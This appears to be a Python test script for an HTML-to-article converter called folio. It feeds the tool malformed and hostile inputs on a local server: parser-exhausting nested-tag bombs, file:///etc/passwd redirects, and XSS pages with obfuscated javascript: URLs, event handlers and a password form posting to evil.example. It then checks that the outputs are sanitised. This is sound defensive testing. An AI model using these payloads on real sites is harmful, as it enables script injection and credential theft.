#!/usr/bin/env python3
"""Bad inputs: run.py FOLIO SOURCE_ROOT [--readme] [NAME...]

A table of hostile and broken inputs (issue 7), each run through the folio
command with its expected exit code and a fragment of its one-line message
(`folio: INPUT: reason` on stderr). Exit codes, as folio(1): 0 done, 1 no
article, 2 usage, 3 input error, 4 output error, 5 limit exceeded or
internal error. Every case also has a time limit: refusing must be quick.

Inputs are generated at run time in a temporary directory (the big ones are
never committed); the network cases use a server on 127.0.0.1 only (the full
network suite is tests/net/run.py). Then the safe-output cases: hostile pages
converted to every format must carry no script, iframe, object, embed or
form, no on* attribute, no javascript:, vbscript: or data:text URL; EPUB
entry names stay inside [A-Za-z0-9._/-] with no "..", and a page read from a
URL cannot make folio read a local file.

--readme rewrites tests/pathological/README.md from the table.
Prints one line per case and "N passed, M failed".
"""
import gzip
import json
import os
import re
import resource
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

FOLIO = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else "folio"
ROOT = os.path.abspath(sys.argv[2]) if len(sys.argv) > 2 else "."

PARA = ("<p>The harbour town keeps a tide log by hand, and every morning a volunteer "
        "climbs the steps of the pilot house to read the gauge, write the figure, "
        "and sign the ledger, as the town has done since 1871.</p>\n")


def page(body, title="Tide Log", head=""):
    return (f"<!DOCTYPE html><html lang=en><head><meta charset=utf-8><title>{title}</title>"
            f"{head}</head><body>{body}</body></html>\n")


ARTICLE = page("<article><h1>Tide Log</h1>" + PARA * 6 + "</article>")

# ------------------------------------------------------------- the inputs
# Each maker returns bytes (written to a file named after the case) or, for
# cases that need no file, None. Big inputs are made here, never committed.


def png():
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06"
            b"\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01"
            b"\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


def pdf():
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"


def gz():
    return gzip.compress(ARTICLE.encode(), mtime=0)


def nul_early():
    return b"\x00\x00\x00\x00" + ARTICLE.encode()


def nul_late():
    s = ARTICLE.encode()
    cut = s.index(b"</article>")
    return s[:cut] + b"<p>Stray\x00NUL\x00bytes in the text.</p>" + s[cut:]


def invalid_utf8():
    bad = b"<p>Bad bytes: \xc3\x28 \xa0\xa1 \xe2\x28\xa1 \xf0\x28\x8c\xbc \xed\xa0\x80 \xff.</p>"
    s = ARTICLE.encode()
    cut = s.index(b"</article>")
    return s[:cut] + bad + s[cut:]


def lying_charset():
    # declares UTF-8, is windows-1252
    body = "<article><h1>Caf\u00e9</h1>" + PARA * 4 + "<p>Un caf\u00e9 cr\u00e8me, s'il vous pla\u00eet.</p></article>"
    return page(body, title="Caf\u00e9").encode("cp1252")


def utf16_no_bom():
    return ARTICLE.encode("utf-16-le")


def huge_page(mb):
    def make():
        head = "<!DOCTYPE html><html><head><title>Big</title></head><body><article><h1>Big</h1>"
        n = (mb * 1000 * 1000 - len(head)) // len(PARA)
        return (head + PARA * n + "</article></body></html>").encode()
    return make


def over_cap():
    # 65 MiB of plain text: over the 64 MiB default without costing a parse
    return b"<title>x</title><p>" + b"a" * (65 << 20)


def siblings():
    return page("<article><h1>Many</h1>" + "<p>One short paragraph, with words.</p>" * 100000
                + "</article>").encode()


def big_attribute():
    return page("<article><h1>Attr</h1><p data-x=\"" + "a" * (1 << 20) + "\">Long.</p>" +
                PARA * 4 + "</article>").encode()


def many_attributes():
    return page("<p " + " ".join(f"a{i}" for i in range(100000)) + ">x</p>" + PARA).encode()


def body_attributes():
    return ("".join(f"<body a{i}=1>" for i in range(20000)) + PARA).encode()


def unclosed():
    return ("<html><head><title>Unclosed</title><body><div><article><h1>Unclosed</h1>"
            + "<p>Item, with <b>bold <i>and italic <a href=/x>link" + PARA.replace("</p>", "")
            + "<ul><li>one<li>two<li><p>three" * 20 + "<table><tr><td>cell<td>cell"
            + PARA.replace("</p>", "") * 4).encode()


def only_script():
    return b"<script>document.write('<h1>Hello</h1><p>' + 'text '.repeat(500))</script>"


def frameset():
    return (b"<html><head><title>Frames</title></head><frameset cols='20%,80%'>"
            b"<frame src=nav.html><frame src=main.html>"
            b"<noframes><p>Your browser does not support frames.</p></noframes></frameset></html>")


def xhtml():
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" '
            '"http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">\n'
            '<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="en"><head><title>Tide Log</title>'
            '</head><body><article><h1>Tide Log</h1>' + PARA * 5 +
            '<p>A line<br/>break and an image <img src="a.png" alt="gauge"/>.</p>'
            '</article></body></html>\n').encode()


def nested(n, unit="<div>"):
    def make():
        return (unit * n + "x").encode()
    return make


def formatting_bomb():
    # <div><font color=N></div> repeated: gumbo reopens every font in every
    # later block, so depth and node count grow without bound
    return "".join(f"<div><font color={i}></div>" for i in range(30000)).encode() + b"x"


def reopened_fonts():
    # 1,000 fonts closed by </div>, then 20,000 paragraphs: gumbo reopens
    # all 1,000 in every paragraph (20 million elements from 200 KB)
    return ("<div>" + "".join(f"<font color={i}>" for i in range(1000)) + "</div>"
            + "<p>x</p>" * 20000).encode()


def end_tag_walks():
    # 2,000 open spans and 5 million end tags of nothing: each walks them all
    return b"<span>" * 2000 + b"</x>" * 5000000


def deep_text():
    # 2,000 divs, an open <b>, then 40 MB of text: gumbo looks the <b> up in
    # its stack once per character
    return b"<div>" * 2000 + b"<b>" + b"x" * (40 << 20)


def nested_tables(n):
    def make():
        return page("<table><td>" * n + PARA * 3 + "</table>" * n).encode()
    return make


# --------------------------------------------------------------- the table
# name, input description, maker (or a URL path on the local server, or a
# literal argument), extra args, expected exit, message fragment (regex,
# case-insensitive; None: no message expected), time limit in seconds.
ROWS = [
    ("empty", "empty file", lambda: b"", [], 1, r"no article", 10),
    ("png", "a PNG given as HTML", png, [], 3, r"not (an )?html", 10),
    ("pdf", "a PDF given as HTML", pdf, [], 3, r"not (an )?html", 10),
    ("gzip", "a gzip file given as HTML", gz, [], 3, r"not (an )?html", 10),
    ("nul-early", "NUL bytes at the start", nul_early, [], 3, r"not (an )?html", 10),
    ("nul-late", "NUL bytes inside a page", nul_late, [], 0, None, 10),
    ("invalid-utf8", "invalid UTF-8 in a UTF-8 page", invalid_utf8, [], 0, None, 10),
    ("lying-charset", "a page declaring UTF-8, written in windows-1252", lying_charset, [], 0,
     None, 10),
    ("utf16-no-bom", "UTF-16LE without a BOM", utf16_no_bom, [], 0, None, 10),
    ("50mb", "a 50 MB page (generated)", huge_page(50), [], 0, None, 240),
    ("over-64mib", "a 65 MiB page (over --max-size)", over_cap, [], 5,
     r"limit|too (large|big)|larger than", 30),
    ("siblings", "100,000 sibling paragraphs", siblings, [], 0, None, 60),
    ("big-attribute", "a 1 MB attribute value", big_attribute, [], 0, None, 20),
    ("many-attributes", "100,000 attributes on one element", many_attributes, [], 5,
     r"limit|too (large|many)|nested", 10),
    ("body-attributes", "20,000 <body> tags with one attribute each", body_attributes, [], 5,
     r"limit|too (large|many)|nested", 10),
    ("unclosed", "unclosed p, li, td, b, i, a tags", unclosed, [], 0, None, 10),
    ("only-script", "a page that is only a script", only_script, [], 1, r"no article", 10),
    ("frameset", "a frameset", frameset, [], 1, r"no article", 10),
    ("xhtml", "XHTML served as XML (.xhtml, XML declaration)", xhtml, [], 0, None, 10),
    ("nested-1m", "1,000,000 nested <div>s", nested(1000000), [], 5, r"limit|nested|deep",
     10),
    ("nested-cells", "100,000 × <div><table><td></div> (end tags gumbo ignores)",
     nested(100000, "<div><table><td></div>"), [], 5, r"limit|nested|deep", 10),
    ("nested-span", "300,000 × <span><div></span>", nested(300000, "<span><div></span>"), [],
     5, r"limit|nested|deep", 10),
    ("formatting-bomb", "30,000 × <div><font color=N></div> (reconstruction)",
     formatting_bomb, [], 5, r"limit|nested|deep", 10),
    ("reopened-fonts", "1,000 fonts closed early, then 20,000 paragraphs (reconstruction)",
     reopened_fonts, [], 5, r"limit|nested|deep", 10),
    ("end-tag-walks", "2,000 open spans, then 5,000,000 unmatched end tags", end_tag_walks,
     [], 5, r"limit|nested|deep", 10),
    ("deep-text", "40 MB of text under an open <b> 2,000 levels deep", deep_text, [], 5,
     r"limit|nested|deep", 20),
    ("nested-tables", "450 nested tables (depth 1,800, under the cap)", nested_tables(450), [],
     0, None, 20),
    ("redirect-loop", "a redirect loop (local server)", "/loop-a", [], 3, r"redirect", 30),
    ("stall", "a server that stalls (--timeout 2)", "/stall", ["--timeout", "2"], 3,
     r"time", 30),
    ("gzip-truncated", "a truncated gzip body", "/gzip-truncated", [], 3, r".", 30),
    ("http-404", "HTTP 404", "/404", [], 3, r"404", 30),
    ("http-500", "HTTP 500", "/500", [], 3, r"500", 30),
    ("not-html-type", "Content-Type: image/png", "/png", [], 3, r"html|content.type|image",
     30),
    ("redirect-file", "a redirect to file:///etc/passwd", "/to-file", [], 3, r".", 30),
    ("scheme-file", "file:///etc/passwd", "=file:///etc/passwd", [], 3, r"scheme", 10),
    ("scheme-ftp", "ftp://127.0.0.1/x.html", "=ftp://127.0.0.1/x.html", [], 3, r"scheme", 10),
    ("scheme-javascript", "javascript:alert(1)", "=javascript:alert(1)", [], 3, r"scheme", 10),
    ("no-such-dir", "-o in a directory that does not exist", lambda: ARTICLE.encode(),
     ["-o", "{tmp}/no/such/dir/out.md"], 4, r"no such file|cannot", 10),
    ("disk-full", "a disk that fills up (RLIMIT_FSIZE 2 KB), -o out.md",
     lambda: ARTICLE.encode() * 3, ["-o", "{tmp}/full/out.md"], 4, r"write|file too large|space",
     10),
    ("disk-full-epub", "a disk that fills up (RLIMIT_FSIZE 2 KB), -o out.epub",
     lambda: ARTICLE.encode() * 3, ["-f", "epub", "-o", "{tmp}/full/out.epub"], 4,
     r"write|file too large|space", 10),
]

# ------------------------------------------------------------ local server


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        pass

    def send(self, code, body, ctype="text/html; charset=utf-8", headers=(), length=None):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body) if length is None else length))
        self.send_header("Connection", "close")
        self.end_headers()
        try:
            self.wfile.write(body)
        except (BrokenPipeError, ConnectionResetError):
            pass
        self.close_connection = True

    def do_GET(self):
        path = self.path.split("?", 1)[0]
        try:
            self.route(path)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def route(self, path):
        if path == "/loop-a":
            self.send(302, b"", headers=[("Location", "/loop-b")])
        elif path == "/loop-b":
            self.send(302, b"", headers=[("Location", "/loop-a")])
        elif path == "/stall":
            body = ARTICLE.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body[: len(body) // 2])
            self.wfile.flush()
            time.sleep(8)
            self.close_connection = True
        elif path == "/gzip-truncated":
            z = gzip.compress(ARTICLE.encode() * 20, mtime=0)
            self.send(200, z[: len(z) // 2], headers=[("Content-Encoding", "gzip")],
                      length=len(z) // 2)
        elif path == "/404":
            self.send(404, ARTICLE.encode())
        elif path == "/500":
            self.send(500, b"<h1>Internal Server Error</h1>")
        elif path == "/png":
            self.send(200, png(), ctype="image/png")
        elif path == "/to-file":
            self.send(302, b"", headers=[("Location", "file:///etc/passwd")])
        elif path == "/local-images":
            self.send(200, LOCAL_IMAGES.encode())
        elif path.startswith("/hostile/"):
            name = path[len("/hostile/"):]
            self.send(200, HOSTILE.get(name, "").encode())
        else:
            self.send(404, b"<h1>Not found</h1>")


def start_server():
    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


# ---------------------------------------------------------------- running

def limit_fsize():
    resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))


def run_folio(args, preexec=None, timeout=60):
    t0 = time.monotonic()
    try:
        p = subprocess.run([FOLIO, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           preexec_fn=preexec, timeout=timeout)
    except subprocess.TimeoutExpired:
        return None, time.monotonic() - t0
    return p, time.monotonic() - t0


def run_row(row, tmp, base):
    name, _what, maker, extra, want_exit, want_msg, limit = row
    args = [a.replace("{tmp}", tmp) for a in extra]
    offline = True
    if isinstance(maker, str) and maker.startswith("/"):
        target = base + maker
        offline = False
    elif isinstance(maker, str) and maker.startswith("="):
        target = maker[1:]
        offline = False
    else:
        ext = ".xhtml" if name == "xhtml" else ".html"
        target = os.path.join(tmp, name + ext)
        with open(target, "wb") as f:
            f.write(maker())
    preexec = None
    if name.startswith("disk-full"):
        os.makedirs(os.path.join(tmp, "full"), exist_ok=True)
        preexec = limit_fsize
    cmd = (["--offline"] if offline else []) + args + [target]
    p, dt = run_folio(cmd, preexec, timeout=limit + 30)
    problems = []
    if p is None:
        return [f"no answer within {limit + 30} s"], None, dt, ""
    lines = [l for l in p.stderr.decode("utf-8", "replace").splitlines()
             if not l.startswith("folio: warning:")]
    msg = lines[0] if lines else ""
    if p.returncode != want_exit:
        problems.append(f"exit {p.returncode}, expected {want_exit}")
    if dt > limit:
        problems.append(f"took {dt:.1f} s (limit {limit} s)")
    if p.returncode != 0:
        if len(lines) != 1:
            problems.append(f"{len(lines)} lines on stderr, expected one")
        elif not msg.startswith("folio: "):
            problems.append("message not prefixed 'folio: '")
    if want_msg and not re.search(want_msg, msg, re.I):
        problems.append(f"message lacks /{want_msg}/")
    if p.returncode == 0:
        problems += check_output(name, p.stdout)
    if name.startswith("disk-full") or name == "no-such-dir":
        d = os.path.dirname(args[-1])
        if os.path.isdir(d) and os.listdir(d):
            problems.append(f"left files behind: {os.listdir(d)}")
    return problems, p.returncode, dt, msg


def check_output(name, out):
    problems = []
    try:
        text = out.decode("utf-8")
    except UnicodeDecodeError:
        return ["output is not valid UTF-8"]
    if "\x00" in text:
        problems.append("output holds a NUL")
    if name in ("lying-charset",) and "café" not in text.lower():
        problems.append("output lacks 'café' (charset not repaired)")
    if name in ("utf16-no-bom", "xhtml", "nul-late", "invalid-utf8", "unclosed", "50mb",
                "big-attribute", "siblings", "nested-tables"):
        if not re.search(r"tide log|harbour|one short paragraph|long\.|item", text, re.I):
            problems.append("output lacks the article text")
    return problems


# ------------------------------------------------------------- safe output

HOSTILE = {
    "scripts": page(
        "<article onclick=\"alert(1)\" onmouseover='alert(2)'><h1 onload=alert(3)>Tide Log</h1>"
        + PARA * 3 +
        "<script>alert('s1')</script><SCRIPT src=//evil.example/x.js></SCRIPT>"
        "<p>Before <iframe src=\"https://evil.example/\" srcdoc=\"<script>alert(4)</script>\">"
        "fallback</iframe> after.</p>"
        "<object data=\"x.swf\"><param name=a value=b><embed src=\"y.swf\"></object>"
        "<embed src=\"z.swf\" type=\"application/x-shockwave-flash\">"
        "<form action=\"https://evil.example/steal\" method=post><input name=pw type=password>"
        "<button formaction=\"javascript:alert(5)\">Send</button></form>"
        "<p style=\"background:url(javascript:alert(6))\" onerror=\"alert(7)\">Styled text.</p>"
        + PARA * 2 + "</article>"),
    "urls": page(
        "<article><h1>Tide Log</h1>" + PARA * 3 +
        "<p><a href=\"javascript:alert(1)\">one</a>, <a href=\" JaVaScRiPt:alert(2)\">two</a>, "
        "<a href=\"java&#x09;script:alert(3)\">three</a>, <a href=\"vbscript:msgbox(4)\">four</a>, "
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==\">five</a>, "
        "<a href=\"&#106;avascript:alert(6)\">six</a>, <a href=\"jav&#x0A;ascript:alert(7)\">seven</a>.</p>"
        "<p><img src=\"javascript:alert(8)\" alt=\"img one\"> <img src=\"vbscript:x\" alt=\"img two\">"
        " <img src=\"data:text/html,<script>alert(9)</script>\" alt=\"img three\">"
        " <img src=\"x.png\" onerror=\"alert(10)\" alt=\"img four\"></p>"
        "<p><a href=\"https://example.org/ok\" onclick=\"alert(11)\">a fine link</a></p>"
        + PARA * 2 + "</article>",
        head="<base href=\"javascript:alert(12)//\">"
             "<meta property=\"og:image\" content=\"javascript:alert(13)\">"
             "<link rel=canonical href=\"javascript:alert(14)\">"),
    "svg-math": page(
        "<article><h1>Tide Log</h1>" + PARA * 3 +
        "<svg onload=\"alert(1)\"><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\">"
        "<text>svg link</text></a><foreignObject><iframe src=x></iframe></foreignObject></svg>"
        "<math><mi xlink:href=\"javascript:alert(4)\">x</mi></math>"
        "<details open ontoggle=\"alert(5)\"><summary>More</summary>Hidden text.</details>"
        "<p>Text with &lt;script&gt;escaped&lt;/script&gt; markup as words.</p>"
        + PARA * 2 + "</article>"),
    "noscript-template": page(
        "<article><h1>Tide Log</h1>" + PARA * 3 +
        "<noscript><iframe src=\"https://evil.example/\"></iframe><img src=x onerror=alert(1)>"
        "</noscript><template><script>alert(2)</script><form></form></template>"
        "<textarea><script>alert(3)</script></textarea>"
        "<pre><code>&lt;iframe src=x&gt; in code</code></pre>"
        + PARA * 2 + "</article>"),
}
LOCAL_IMAGES = page(
    "<article><h1>Tide Log</h1>" + PARA * 4 +
    "<p><img src=\"file:///etc/passwd\" alt=\"f1\"><img src=\"/etc/passwd\" alt=\"f2\">"
    "<img src=\"../../../../../../etc/passwd\" alt=\"f3\"><img src=\"file:/etc/hostname\" alt=\"f4\">"
    "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlE"
    "QVR4nGP4DwABAQEABRjYTgAAAABJRU5ErkJggg==\" alt=\"ok\"></p></article>")

# Markup that must not survive from the page (an unescaped "<" only: "\<"
# is Markdown's escape), and URLs and handlers that must not survive in any
# form, not even as plain text.
MARKUP = [r"(?<!\\)<\s*script", r"(?<!\\)<\s*iframe", r"(?<!\\)<\s*object",
          r"(?<!\\)<\s*embed", r"(?<!\\)<\s*form", r"(?<!\\)<\s*input",
          r"(?<!\\)<\s*button", r"(?<!\\)<\s*param", r"(?<!\\)<[^>]*\son[a-z]+\s*=",
          r"(?<!\\)<[^>]*\sstyle\s*="]
URLS = [r"javascript\s*:", r"vbscript\s*:", r"data:text", r"alert\(", r"evil\.example",
        r"formaction"]
EPUB_NAME = re.compile(r"^[A-Za-z0-9._/-]+$")


def hits(text, patterns):
    found = []
    for pat in patterns:
        m = re.search(pat, text, re.I)
        if m:
            start = max(0, m.start() - 30)
            found.append(f"/{pat}/ near {text[start:m.end() + 30]!r}")
    return found


def strip_markdown_code(md):
    """Markdown without front matter, fenced code and code spans: what a
    CommonMark reader could turn into raw HTML."""
    md = re.sub(r"\A---\n.*?\n---\n", "", md, flags=re.S)
    md = re.sub(r"^(`{3,}|~{3,}).*?^\1[ \t]*$", "", md, flags=re.S | re.M)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", md, flags=re.S)


def unsafe_in(fmt, text):
    if fmt == "text":
        return hits(text, URLS)
    if fmt == "md":
        return hits(text, URLS) + hits(strip_markdown_code(text), MARKUP)
    if fmt == "json":
        try:
            obj = json.loads(text)
        except ValueError as e:
            return [f"not JSON: {e}"]
        found = hits(text, URLS)
        if isinstance(obj.get("markdown"), str):
            found += hits(strip_markdown_code(obj["markdown"]), MARKUP)
        return found
    return hits(text, URLS) + hits(text, MARKUP)  # html, EPUB documents


def check_epub(path):
    problems = []
    try:
        z = zipfile.ZipFile(path)
    except (zipfile.BadZipFile, OSError) as e:
        return [f"not a zip: {e}"]
    for info in z.infolist():
        n = info.filename
        if ".." in n or n.startswith("/") or not EPUB_NAME.match(n):
            problems.append(f"entry name {n!r}")
        data = z.read(n)
        if b"root:" in data or b"/bin/" in data:
            problems.append(f"entry {n!r} holds a local file")
        if n.endswith((".xhtml", ".html", ".opf", ".ncx", ".xml", ".css")):
            fmt = "text" if n.endswith(".css") else "html"
            for h in unsafe_in(fmt, data.decode("utf-8", "replace")):
                problems.append(f"{n}: {h}")
    return problems


def safe_cases(tmp, base):
    """(name, problems) for each hostile page in each format."""
    results = []
    for name in sorted(HOSTILE):
        path = os.path.join(tmp, f"hostile-{name}.html")
        with open(path, "w", encoding="utf-8") as f:
            f.write(HOSTILE[name])
        for fmt in ("md", "text", "json", "html", "epub"):
            args = ["--offline", "-f", fmt]
            out = os.path.join(tmp, f"hostile-{name}.{fmt}")
            args += ["-o", out, path]
            p, _dt = run_folio(args, timeout=60)
            problems = []
            if p is None:
                problems.append("no answer")
            elif p.returncode != 0:
                problems.append(f"exit {p.returncode}: "
                                f"{p.stderr.decode('utf-8', 'replace').strip()[:200]}")
            elif fmt == "epub":
                problems += check_epub(out)
            else:
                text = open(out, encoding="utf-8", errors="replace").read()
                problems += unsafe_in(fmt, text)
            results.append((f"safe-{name}-{fmt}", problems))
    # a page read from a URL: its images may not be local files
    out = os.path.join(tmp, "local-images.epub")
    p, _dt = run_folio(["-f", "epub", "-o", out, base + "/local-images"], timeout=60)
    problems = []
    if p is None or p.returncode != 0:
        problems.append("no EPUB made: " + ("" if p is None else
                                            p.stderr.decode("utf-8", "replace")[:200]))
    else:
        problems += check_epub(out)
    results.append(("safe-url-no-local-files", problems))
    return results


# ------------------------------------------------------------------ README

def write_readme():
    lines = [
        "# Bad inputs (issue 7)",
        "",
        "Generated by `tests/pathological/run.py FOLIO SOURCE_ROOT --readme` from the table",
        "in run.py; `meson test pathological` runs it. Exit codes: 0 done, 1 no article,",
        "2 usage, 3 input error, 4 output error, 5 limit exceeded or internal error. The",
        "message is the one line `folio: INPUT: reason` on stderr; the column gives a",
        "fragment (a case-insensitive regular expression) it must hold. Every case also has",
        "a time limit. Network cases use a server on 127.0.0.1.",
        "",
        "| case | input | expected exit | message | time limit |",
        "|---|---|---|---|---|",
    ]
    for name, what, _m, extra, code, msg, limit in ROWS:
        args = (" (`" + " ".join(extra).replace("{tmp}", "TMP") + "`)") if extra else ""
        cell = ("`" + msg.replace("|", "\\|") + "`") if msg else "—"
        lines.append(f"| {name} | {what}{args} | {code} | {cell} | {limit} s |")
    lines += [
        "",
        "Safe output: the hostile pages in run.py (`HOSTILE`: scripts and handlers, unsafe",
        "URLs in links and images, SVG and MathML, noscript and template) converted to md,",
        "text, json, html and epub must carry no script, iframe, object, embed, form, input,",
        "button or param element and no on* or style attribute (md: outside code and front",
        "matter; text: markup there is only words), and no javascript:, vbscript: or",
        "data:text URL in any form. EPUB entry names match `[A-Za-z0-9._/-]+` without `..`.",
        "A page read from a URL with `file:`, absolute and `../` image paths makes an EPUB",
        "holding no local file.",
        "",
    ]
    path = os.path.join(ROOT, "tests", "pathological", "README.md")
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join(lines))
    print("wrote", path)


def main():
    args = sys.argv[3:]
    if "--readme" in args:
        write_readme()
        return 0
    only = set(a for a in args if not a.startswith("-"))
    srv = start_server()
    base = f"http://127.0.0.1:{srv.server_address[1]}"
    passed = failed = 0
    with tempfile.TemporaryDirectory(prefix="folio-patho-") as tmp:
        for row in ROWS:
            if only and row[0] not in only:
                continue
            problems, code, dt, msg = run_row(row, tmp, base)
            status = "ok  " if not problems else "FAIL"
            got = f"exit {code}" if code is not None else "no exit"
            print(f"{status} {row[0]:<18} {got}, {dt:.1f} s  {msg[:90]}")
            for pr in problems:
                print(f"       {pr}")
            passed += not problems
            failed += bool(problems)
            for name in os.listdir(tmp):  # big inputs go as soon as they are used
                p = os.path.join(tmp, name)
                if os.path.isfile(p) and os.path.getsize(p) > (1 << 20):
                    os.unlink(p)
        if not only or any(o.startswith("safe") for o in only):
            for name, problems in safe_cases(tmp, base):
                status = "ok  " if not problems else "FAIL"
                print(f"{status} {name}")
                for pr in problems[:8]:
                    print(f"       {pr}")
                passed += not problems
                failed += bool(problems)
    srv.shutdown()
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
